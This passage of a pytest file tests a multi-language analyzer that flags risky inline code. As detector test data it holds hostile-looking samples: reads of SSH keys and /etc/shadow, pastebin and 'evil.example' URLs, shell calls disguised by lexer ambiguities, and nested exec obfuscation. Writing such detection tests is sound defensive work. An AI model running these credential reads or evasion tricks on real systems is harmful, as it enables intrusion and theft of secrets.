    ("r", "x <- read.csv('data.csv'); print(nrow(x))", ("data.csv",)),
    ("applescript", 'display dialog "hello"', ()),
    ("applescript", 'tell application "Finder" to get name of every window', ()),
    ("awk", "{ print $1 }", ()),
    ("awk", "-F: '{ s += $3 } END { print s }'", ()),
    ("awk", 'NR > 1 { print $2, $1 }', ()),
    ("awk", 'BEGIN { print ENVIRON["HOME"] }', ()),
    ("awk", '{ printf "%s\\n", $1 > "/dev/stderr" }', ()),
    ("awk", "NR>1{sum+=$3} END{print sum}", ()),
    ("perl", "print if /foo/", ()),
    ("perl", "s/\\r//", ()),
    ("perl", "print $F[0]", ()),
    ("perl", "use JSON::PP; print decode_json(join '', <STDIN>)->{version}", ()),
    ("perl", "printf(\"%.2f\\n\", 3.14159)", ()),
    ("ruby", "puts ARGF.read.upcase", ()),
    ("python", "import os; print(os.environ.get('PATH'))", ()),
    ("python", "import yaml; print(yaml.safe_load(open('config.yml')))", ("config.yml",)),
    ("python", "import os; print(os.getcwd(), os.cpu_count())", ()),
    ("node", "console.log(require('path').resolve('.'))", ()),
    ("node", "process.versions.node", ()),
    ("node", "const http = require('http'); http.createServer((q, r) => r.end('ok')).listen(8080)",
     ()),
    ("php", "echo date('Y-m-d');", ()),
    ("lua", "print(os.date('%Y'))", ()),
]


@pytest.mark.parametrize(("lang", "code", "reads"), CLEAN)
def test_everyday_code_is_clean(lang: str, code: str, reads: tuple[str, ...]) -> None:
    f = analyze(lang, code)
    assert f.commands == () and f.risky == () and f.writes == () and f.deletes == ()
    assert f.chmods == () and f.urls == () and not f.unknown_targets
    assert f.reads == reads


# ---- the lexer ------------------------------------------------------------------------------

def _strings(code: str, lang: str) -> list[str]:
    return ["".join(text for _, text in tok.pieces) for tok in tokenize(code, lang)[0]
            if tok.kind in ("str", "cmd")]


@pytest.mark.parametrize(("lang", "code", "strings"), [
    ("node", r""" "a\n\x41\u0042\u{43}\101" 'b\'c' """, ["a\nABCA", "b'c"]),
    ("perl", r"""q(a(b)c) qq{x{y}} 'it\'s' "t\tx" s/a/b/g m{x} y/a-z/A-Z/ qx{ls}""",
     ["a(b)c", "x{y}", "it's", "t\tx", "ls"]),
    ("ruby", r"""%q(x) %Q{y} 'a\nb' "c\nd" %x(id)""", ["x", "y", "a\\nb", "c\nd", "id"]),
    ("lua", "[==[a]]b]==] 'x' [[y]]", ["a]]b", "x", "y"]),
    ("node", 'x = 10 / 2 / 1; y = /re"x/; z = "s"', ["s"]),
    ("php", "$x = <<<EOT\nit's\nEOT;\necho 'y';", ["it's", "y"]),
    ("perl", "print <<'EOF';\nit's\nEOF\nprint 'z';", ["it's", "z"]),
])
def test_lexer_strings(lang: str, code: str, strings: list[str]) -> None:
    assert _strings(code, lang) == strings


@pytest.mark.parametrize(("lang", "code"), [
    ("node", "// require('child_process').execSync('id')\n/* system('rm') */ console.log(1)"),
    ("perl", "# system('id')\nprint 1"),
    ("lua", "-- os.execute('id')\n--[[ os.execute('x') ]] print(1)"),
    ("applescript", '-- do shell script "id"\n(* do shell script "x" *) display dialog "hi"'),
    ("php", "# system('id');\n// system('x');\n/* exec('y') */ echo 1;"),
    ("ruby", "x = 10 % 3; puts x"),
    ("ruby", "a = b ? 'x' : 'y'; puts a"),
    ("perl", "my @a = (1) x 3; print 1 << 2"),
])
def test_comments_and_operators_are_not_code(lang: str, code: str) -> None:
    assert _fields(analyze(lang, code)) == {}


@pytest.mark.parametrize(("lang", "code"), [
    # a `/` after `)` or `}` may divide or start a regex: both readings are scanned
    ("node", "x = {} / 1; require('child_process').execSync('id'); z = 1 / 2"),
    ("node", "if (x) /'/.test(s) && require('child_process').execSync('id') // '"),
    # heredoc bodies are strings, and `<<X` may also be a shift
    ("perl", "print <<'EOF';\nit's\nEOF\nsystem('id');"),
    ("perl", "print <<EOF . <<\"END\";\na'\nEOF\nb\"\nEND\nsystem('id');"),
    ("perl", "print 1<<X; system('id')"),
    ("ruby", "s = <<~EOS\n  it's\n  EOS\nsystem('id')"),
    ("php", "$x = <<<EOT\nit's\nEOT;\nsystem('id');"),
    # Ruby's character literal ?' is no quote
    ("ruby", "x = ?'; system('id') #'"),
    # documentation is not code, and `=word` at a line start may be an assignment
    ("perl", "=pod\nit's\n=cut\nsystem('id');"),
    ("perl", "my $x\n=system('id');"),
    ("ruby", "=begin\nit's\n=end\nsystem('id')"),
    # PHP outside its tags is output text
    ("php", "Hello, it's <?php system('id'); ?> and it's"),
])
def test_ambiguous_spellings_cannot_hide_a_call(lang: str, code: str) -> None:
    assert analyze(lang, code).commands == ("id",)


# ---- literals, bounds, robustness ---------------------------------------------------------

def test_unclassified_path_and_url_literals_are_reported() -> None:
    f = analyze("python", "KEY = '~/.ssh/id_ed25519'\nURL = 'https://pastebin.com/raw/x'\nprint(KEY)")
    assert f.reads == ("~/.ssh/id_ed25519",)
    assert f.urls == ("https://pastebin.com/raw/x",)
    g = analyze("node", "const t = '/etc/shadow'; const u = \"https:\\\\pastebin.com\\\\x\"")
    assert g.reads == ("/etc/shadow",) and g.urls == ("https:\\pastebin.com\\x",)


@pytest.mark.parametrize(("lang", "code", "field", "value"), [
    ("node", "const u = 'https://' + 'pastebin.com' + '/raw'", "urls", "https://pastebin.com/raw"),
    ("php", "$u = 'https://' . 'evil.example';", "urls", "https://evil.example"),
    ("ruby", "u = '/etc/' + 'shadow'", "reads", "/etc/shadow"),
    ("lua", "local p = '/etc/' .. 'passwd'", "reads", "/etc/passwd"),
    ("python", "u = 'https://' + 'pastebin.com'", "urls", "https://pastebin.com"),
])
def test_concatenated_literals_count_as_one(lang: str, code: str, field: str, value: str) -> None:
    assert getattr(analyze(lang, code), field) == (value,)


def test_an_ambiguous_authority_yields_both_hosts() -> None:
    f = analyze("node", "fetch('https://github.com\\\\@pastebin.com/x')")
    assert f.urls == ("https://github.com\\@pastebin.com/x", "https://github.com/")


def test_literals_in_commands_are_not_double_counted() -> None:
    f = analyze("python", "import subprocess; subprocess.run(['cat', '/etc/shadow'])")
    assert f.commands == ("cat /etc/shadow",) and f.reads == ()


def test_home_stays_expandable_in_argument_vectors() -> None:
    f = analyze("python", "import subprocess, os; subprocess.run(['ls', os.path.expanduser('~'), "
                          "os.path.expanduser('~/a b')])")
    assert f.commands == ("ls ~ ~/'a b'",)


def test_oversized_code_is_too_complex() -> None:
    f = analyze("python", "x = 1\n" * 20_000)
    assert f.unknown_targets and COMPLEX in f.risky
    g = analyze("node", "a;" * 40_000)
    assert g.unknown_targets and COMPLEX in g.risky


def test_findings_are_capped() -> None:
    code = "\n".join(f"open('/tmp/f{i}').read()" for i in range(600))
    f = analyze("python", code)
    assert len(f.reads) <= 256 and COMPLEX in f.risky and f.unknown_targets


def test_nested_literal_exec_is_analysed_to_a_depth() -> None:
    inner = "import os; os.system('id')"
    code = inner
    for _ in range(3):
        code = f"exec({code!r})"
    assert analyze("python", code).commands == ("id",)
    for _ in range(10):
        code = f"exec({code!r})"
    deep = analyze("python", code)
    assert deep.unknown_targets and COMPLEX in deep.risky


def test_exponential_string_growth_is_bounded() -> None:
    lines = ["a0 = 'xxxxxxxx'"] + [f"a{i} = a{i - 1} + a{i - 1}" for i in range(1, 60)]
    f = analyze("python", "\n".join(lines) + "\nimport os; os.system(a59)")
    assert len(f.commands) == 1 and len(f.commands[0]) < 70_000 and f.unknown_targets


def test_deep_nesting_does_not_raise() -> None:
    f = analyze("python", "(" * 5000 + ")" * 5000)
    assert f.unknown_targets
    g = analyze("node", "f(" * 5000 + ")" * 5000)
    assert isinstance(g, InlineFindings)


def test_unknown_language_and_bad_types_are_handled() -> None:
    assert analyze("cobol", "os.system('id')").commands == ("id",)
    assert analyze(None, "x").unknown_targets  # type: ignore[arg-type]
    assert analyze("python", None).unknown_targets  # type: ignore[arg-type]


CODEISH = st.lists(st.sampled_from([*"abrm -/~$(){}[]`'\"\\;&|<>#*?=\n\t!0123xe.,+%@:",
                                    "system(", "exec(", "eval(", "open(", "os.", "require(",
                                    "'/etc/passwd'", "process.env.HOME", "$ENV{HOME}", "qx{",
                                    "%x(", "[[", "]]", "--", "/*", "*/", "${", "#{", "chr(",
                                    "import os", "subprocess.run(", "getline", "| \"sh\"",
                                    "do shell script ", "\"", "'", "`"]),
                   max_size=60).map("".join)


@FUZZ
@given(st.sampled_from([*LANGUAGES, "cobol"]), st.one_of(st.text(max_size=400), CODEISH))
def test_analyze_never_raises(lang: str, code: str) -> None:
    # The inner analysis, which has no catch-all: a bug shows here as an exception.
    _analyze_into(lang, code, Collector(), 0, [WORK_BUDGET])
    f = analyze(lang, code)
    assert isinstance(f, InlineFindings)
    for field in ("commands", "reads", "writes", "deletes", "chmods", "urls"):
        values = getattr(f, field)
        assert len(values) <= 256 and all(isinstance(v, str) and v for v in values)
        assert not any("\x00" in v for v in values)  # unknown parts never leak as text


ARGV_WORDS = st.sampled_from(["python3", "perl", "node", "ruby", "php", "lua", "Rscript", "R",
                              "osascript", "awk", "gawk", "busybox", "bash", "sh", "pwsh", "deno",
                              "-c", "-e", "-E", "-p", "-r", "-f", "-", "--", "-s", "-m", "-lne",
                              "-Ic", "-W", "-o", "--eval=x", "eval", "run", "x.py", "/dev/stdin",
                              "print(1)", "-i", "-F", "-v", "CMD", "-Command", ""])


@FUZZ
@given(st.lists(st.one_of(ARGV_WORDS, st.text(max_size=8)), max_size=8))
def test_argv_scans_never_raise(argv: list[str]) -> None:
    found = inline_code(argv)
    stdin = reads_stdin_program(argv)
    if found is not None:
        assert found[0] in LANGUAGES
        assert stdin is None
    assert stdin is None or stdin in (*LANGUAGES, "shell")
